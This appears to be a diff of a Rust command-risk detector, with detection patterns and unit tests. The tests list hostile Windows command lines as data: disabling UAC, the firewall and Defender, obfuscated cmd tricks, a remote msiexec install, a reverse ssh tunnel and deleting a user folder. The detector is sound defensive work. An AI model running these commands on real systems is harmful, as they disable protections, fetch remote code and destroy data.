@@ -3,47 +3,43 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
 
-use regex::{Regex, RegexSet, RegexSetBuilder};
+use regex::Regex;
 
 use super::Peeled;
 use super::hosts::hosts;
+use super::network::{fetched, is_run};
+use super::pattern::{Patterns, Wanted};
+use super::plain::{plain, with_plain_numbers};
 use crate::risk::class::{Severity, class, rows};
 use crate::risk::report::RiskFinding;
 
 const TABLE: &str = include_str!("../data/commands.tsv");
-/// How many bytes the compiled table may have; it has about 8 MB.
-const MAX_TABLE: usize = 64 << 20;
 
 struct Row {
     class: &'static str,
     severity: Option<Severity>,
     attack: Option<&'static str>,
-    pattern: Regex,
+    /// A statement that fits this too is none of the class.
+    unless: Option<Regex>,
 }
 
 static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
     rows(TABLE)
         .map(|row| match row.as_slice() {
-            [name, severity, attack, pattern] => Row {
+            [name, severity, attack, _, unless @ ..] => Row {
                 class: class(name).name,
                 severity: Severity::of_word(severity),
                 attack: (*attack != "-").then_some(*attack),
-                pattern: regex(pattern),
+                unless: unless.first().map(|pattern| regex(pattern)),
             },
-            _ => panic!("a row of the commands has four columns: {row:?}"),
+            _ => panic!("a row of the commands has four or five columns: {row:?}"),
         })
         .collect()
 });
 
-/// All patterns of the table, to find in one pass those that fit.
-static ANY: LazyLock<RegexSet> = LazyLock::new(|| {
-    let patterns = rows(TABLE).filter_map(|row| row.last().copied());
-    RegexSetBuilder::new(patterns)
-        .size_limit(MAX_TABLE)
-        .dfa_size_limit(MAX_TABLE)
-        .build()
-        .expect("the patterns are sound")
-});
+/// The patterns of the rows, in their order.
+static PATTERNS: LazyLock<Patterns> =
+    LazyLock::new(|| Patterns::new(rows(TABLE).filter_map(|row| row.get(3).copied())));
 
 fn regex(pattern: &str) -> Regex {
     Regex::new(pattern).unwrap_or_else(|error| panic!("{error}"))
@@ -62,13 +58,20 @@ pub(in crate::risk) struct Reading {
 pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     let mut reading = Reading::default();
     let mut worst: BTreeMap<&str, RiskFinding> = BTreeMap::new();
-    let layers: Vec<(&str, String)> =
-        peeled.layers.iter().map(|layer| (layer.layer.as_str(), plain(&layer.text))).collect();
+    let mut layers: Vec<(&str, String)> = Vec::new();
+    for layer in &peeled.layers {
+        let text = plain(&layer.text);
+        reading.hosts.extend(hosts(&text));
+        layers.push((&layer.layer, with_plain_numbers(&text)));
+    }
     for (layer, text) in &layers {
-        for index in ANY.matches(text) {
-            let Some(row) = ROWS.get(index) else { continue };
-            let found = row.pattern.find(text).map_or("", |found| line_of(text, found.start()));
-            let own = RiskFinding::new(row.class, subject).shows_layer(layer, found);
+        PATTERNS.matches(text, |index, range| {
+            let Some(row) = ROWS.get(index) else { return Wanted::NoMore };
+            let statement = statement(text, &range);
+            if row.unless.as_ref().is_some_and(|unless| unless.is_match(statement)) {
+                return Wanted::More;
+            }
+            let own = RiskFinding::new(row.class, subject).shows_layer(layer, line_of(text, range.start));
             let own = RiskFinding {
                 severity: row.severity.unwrap_or(own.severity),
                 attack: row.attack.unwrap_or(own.attack),
@@ -78,8 +81,8 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
                 Some(known) if known.severity >= own.severity => {}
                 _ => drop(worst.insert(row.class, own)),
             }
-        }
-        reading.hosts.extend(hosts(text));
+            Wanted::NoMore
+        });
     }
     network(&layers, subject, &mut worst);
     if layers.iter().any(|(_, text)| waits_long(text)) {
@@ -91,7 +94,8 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     if let Some(switch) = &peeled.encoded {
         worst.insert("encoded-command", RiskFinding::new("encoded-command", subject).shows(switch));
     }
-    let stream = layers.iter().find_map(|(_, text)| STREAM.find(text));
+    let has_colon = |line: &&str| line.contains(':') && line.contains('.');
+    let stream = layers.iter().flat_map(|(_, text)| text.lines().filter(has_colon)).find_map(|line| STREAM.find(line));
     let stream = stream.map(|found| found.as_str().to_owned());
     if !peeled.obfuscated.is_empty() || stream.is_some() {
         let mut found = RiskFinding::new("obfuscated-command", subject);
@@ -114,9 +118,12 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     reading
 }
 
-/// The text for comparisons: in lower case, with plain hyphens and without doubled blanks.
-fn plain(text: &str) -> String {
-    text.to_lowercase().replace(['\u{2013}', '\u{2014}', '\u{2015}'], "-").replace('\t', " ")
+/// The command that a match is in, without those before and after it in the line.
+fn statement<'t>(text: &'t str, range: &std::ops::Range<usize>) -> &'t str {
+    const ENDS: [char; 4] = ['\n', '&', '|', ';'];
+    let start = text.get(..range.start).and_then(|before| before.rfind(ENDS)).map_or(0, |at| at + 1);
+    let end = text.get(range.end..).and_then(|rest| rest.find(ENDS)).map_or(text.len(), |at| range.end + at);
+    text.get(start..end).unwrap_or_default().trim()
 }
 
 fn line_of(text: &str, at: usize) -> &str {
@@ -124,45 +131,18 @@ fn line_of(text: &str, at: usize) -> &str {
     text.get(start..).and_then(|rest| rest.lines().next()).unwrap_or_default().trim()
 }
 
-static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
-    regex(concat!(
-        r"\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|wget|curl|start-bitstransfer|bitsadmin|downloadstring|downloadfile",
-        r"|downloaddata|webclient|httpclient|xmlhttp|serverxmlhttp|winhttprequest|urldownloadtofile|tftp|certoc|desktopimgdownldr",
-        r"|webrequest\]::create|httpwebrequest|internet-?explorer\.application)\b",
-        r"|\bcertutil(?:\.exe)?\b[^\n]*[-/](?:urlcache|verifyctl|ping|url)\b|\bftp(?:\.exe)?\s+-|\bmpcmdrun(?:\.exe)?\b[^\n]*-downloadfile",
-        r"|\besentutl(?:\.exe)?\b[^\n]*/y\s+\\\\|\bfinger(?:\.exe)?\s+\S*@|\bscp(?:\.exe)?\s|\bgit\s+clone\s"
-    ))
-});
-static RUNS: LazyLock<Regex> = LazyLock::new(|| {
-    regex(concat!(
-        r"\b(?:iex|invoke-expression|invoke-command|icm|start-process|saps|invoke-item|invokescript|invokecommand)\b",
-        r"|scriptblock\]::create|assembly\]::load|\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b|shellexecute|wscript\.shell",
-        r"|\.run\s*\(|\.exec\s*\(|shell\.application|activexobject|\bmsiexec\b|\brundll32\b|\bregsvr32\b|win32_process|invoke-wmimethod",
-        r"|\bstart\s+(?:/\w+\s+)*\S+\.(?:exe|cmd|bat|msi|ps1|vbs|js)\b|powershell[^\n]*-f(?:ile)?\s+\S+\.ps1[^\n]*$"
-    ))
-});
-static WRITTEN: LazyLock<[Regex; 4]> = LazyLock::new(|| {
-    [
-        r#"(?:^|\s)(?:-o|-outfile|--output|-destination|-out|-outf\w*|-dest\w*)[\s=]+["']?([^\s"';&|]+)"#,
-        r#"(?:downloadfile|savetofile|urldownloadtofile)\s*\(?\s*[^,\n]*?,?\s*["']([^"'\n]+?\.[a-z0-9]{2,4})["']"#,
-        r#"(?:https?|ftp)://[^\s"']+["']?,?\s+["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
-        r#"(?:https?|ftp)://[^\s"'?]+/([^\s"'/?&|;)]+\.[a-z0-9]{2,4})\b"#,
-    ]
-    .map(regex)
-});
 /// A stream of a file: `picture.png:run.ps1`.
 static STREAM: LazyLock<Regex> = LazyLock::new(|| regex(r"\b[\w-]+\.[a-z]{2,4}:[\w-]+\.[a-z][a-z0-9]{1,3}\b"));
 
 /// What is fetched, and whether it is run.
 fn network(layers: &[(&str, String)], subject: &str, worst: &mut BTreeMap<&str, RiskFinding>) {
-    let Some((layer, text)) = layers.iter().find(|(_, text)| FETCHES.is_match(text)) else { return };
-    let line = FETCHES.find(text).map_or("", |found| line_of(text, found.start()));
-    let is_run =
-        layers.iter().any(|(_, text)| RUNS.is_match(text)) || layers.iter().any(|(_, text)| runs_a_fetched_file(text));
+    let first = layers.iter().find_map(|(layer, text)| Some((layer, text, fetched(text)?)));
+    let Some((layer, text, place)) = first else { return };
+    let texts: Vec<&str> = layers.iter().map(|(_, text)| text.as_str()).collect();
+    let is_run = is_run(&texts);
     let found = |class| {
-        layers.iter().fold(RiskFinding::new(class, subject).shows_layer(layer, line), |found, (layer, text)| {
-            found.shows_layer(layer, text)
-        })
+        let found = RiskFinding::new(class, subject).shows_layer(layer, line_of(text, place.start));
+        layers.iter().fold(found, |found, (layer, text)| found.shows_layer(layer, text))
     };
     if worst.contains_key("sends-data") && !is_run {
         return;
@@ -171,27 +151,6 @@ fn network(layers: &[(&str, String)], subject: &str, worst: &mut BTreeMap<&str, 
         true => drop(worst.insert("download-and-run", found("download-and-run"))),
         false => drop(worst.insert("downloads", found("downloads"))),
     }
-}
-
-/// Whether a file that is written by the download is named again.
-fn runs_a_fetched_file(text: &str) -> bool {
-    WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text)).take(100).any(|found| {
-        let path = found.get(1).map_or("", |path| path.as_str());
-        let end = found.get(1).map_or(0, |path| path.end());
-        let name = path.rsplit(['\\', '/']).next().unwrap_or_default();
-        let is_run = |name: &str| text.get(end..).unwrap_or_default().contains(name);
-        name.len() > 2 && !name.starts_with('$') && is_run(name) && is_program(name)
-            || path.starts_with('$')
-                && [format!("& {path}"), format!("&{path}"), format!(". {path}")].iter().any(|call| is_run(call))
-    })
-}
-
-fn is_program(name: &str) -> bool {
-    const PROGRAMS: [&str; 17] = [
-        "exe", "cmd", "bat", "ps1", "vbs", "js", "msi", "dll", "com", "scr", "hta", "wsf", "jse", "vbe", "cpl", "lnk",
-        "reg",
-    ];
-    name.rsplit('.').next().is_some_and(|extension| PROGRAMS.contains(&extension))
 }
 
 static WAITS: LazyLock<Vec<(Regex, u64)>> = LazyLock::new(|| {
@@ -208,9 +167,11 @@ static WAITS: LazyLock<Vec<(Regex, u64)>> = LazyLock::new(|| {
 });
 
 fn waits_long(text: &str) -> bool {
-    WAITS.iter().any(|(pattern, least)| {
-        pattern.captures_iter(text).any(|found| found[1].parse::<u64>().is_ok_and(|number| number >= *least))
-    })
+    let has_word = ["timeout", "ping", "sleep", "choice"].iter().any(|word| text.contains(word));
+    has_word
+        && WAITS.iter().any(|(pattern, least)| {
+            pattern.captures_iter(text).any(|found| found[1].parse::<u64>().is_ok_and(|number| number >= *least))
+        })
 }
 
 #[cfg(test)]
@@ -260,6 +221,33 @@ mod tests {
     }
 
     #[test]
+    fn other_writings_of_the_same_are_known() {
+        for line in [
+            "reg add HKLM\\x /v EnableLUA /t REG_DWORD /d 0x0 /f",
+            "reg add HKLM\\x /v EnableLUA /t REG_DWORD /d 00 /f",
+            "Set-ItemProperty HKLM:\\x EnableLUA ([int]$false)",
+            "$k='EnableLUA'\nSet-ItemProperty HKLM:\\x $k 0",
+            "net\"s\"h advf\"irew\"all set allp\"rofil\"es state off",
+            "cmd /c \"set x=nQetshQ&call %x:Q=% advfirewall set allprofiles state off\"",
+            "cmd /c %ProgramFiles:~3,1%%ProgramFiles:~5,1%w%ComSpec:~-1%rshell -f x",
+            "cmd /v:on /c \"set z=exe.oof&for /l %i in (6,-1,0) do set y=!y!!z:~%i,1!&call %y%\"",
+            "msiexec /q/i http://a.example/a.msi",
+            "msiexec /p http://a.example/a.msp /qn",
+            "msiexec /y C:\\x\\a.dll",
+            "rundll32 a.dat,Start",
+            "fltmc unload WdFilter",
+            "dism /online /disable-feature /featurename:Windows-Defender /remove",
+            "sc sdset WinDefend D:(D;;GA;;;WD)",
+            "cmd /c rd /s /q C:\\Users\\somebody",
+            "ssh -R 3389:localhost:3389 a@a.example",
+            "cmd /c pushd \\\\a.example\\d && setup",
+            "net use x: \\\\a.example\\d && x:setup",
+        ] {
+            assert!(classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
+        }
+    }
+
+    #[test]
     fn work_of_administrators_is_not_high() {
         for line in [
             "cmd /c xcopy /y files C:\\Contoso && shutdown /r /t 10",
@@ -272,6 +260,25 @@ mod tests {
             "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print\\floor2",
             "msiexec /i setup.msi TRANSFORMS=a.mst /qn /l*v C:\\log.txt",
             "robocopy \\\\server\\share C:\\data /e",
+            "set HERE=%~dp0\nset HERE=%HERE:~0,-1%\nxcopy \"%HERE%\\files\" C:\\Contoso /e",
+            "set A=C:\\Contoso\nset B=\\tools\nxcopy . %A%%B% /e",
+            "$n = 'Con' + 'toso'; Write-Host $n",
+            "[Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')",
+            "reg add HKLM\\x\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f",
+            "reg add \"HKLM\\x\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 1 /f",
+            "Disable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol -NoRestart",
+            "Set-MpPreference -DisableRealtimeMonitoring $false",
+            "Set-Service -Name WinDefend -StartupType Automatic",
+            "Add-MpPreference -AttackSurfaceReductionRules_Ids 56a863a9-875e-4185-98a7-b882c64b5ce5 -AttackSurfaceReductionRules_Actions Enabled",
+            "sc config mpssvc start= auto\nsc config eventlog start= auto",
+            "Set-Service sshd -StartupType Disabled",
+            "Get-ItemProperty \"HKLM:\\SOFTWARE\\x\\Winlogon\" | select Shell",
+            "assoc .log=txtfile",
+            "Get-NetAdapter | Set-DnsClientServerAddress -ServerAddresses 10.0.0.10,10.0.0.11",
+            "Copy-Item \\\\fs01.contoso.com\\software\\7z.msi C:\\t\\\nmsiexec /i C:\\t\\7z.msi /qn",
+            "start /wait setup.exe /S\ncurl -o C:\\t\\readme.txt https://intranet.contoso.com/readme.txt",
+            "Invoke-RestMethod -Method Post -Uri https://inventory.contoso.com/api -Body $json",
+            "secedit /configure /db secedit.sdb /cfg baseline.inf",
         ] {
             assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
         }
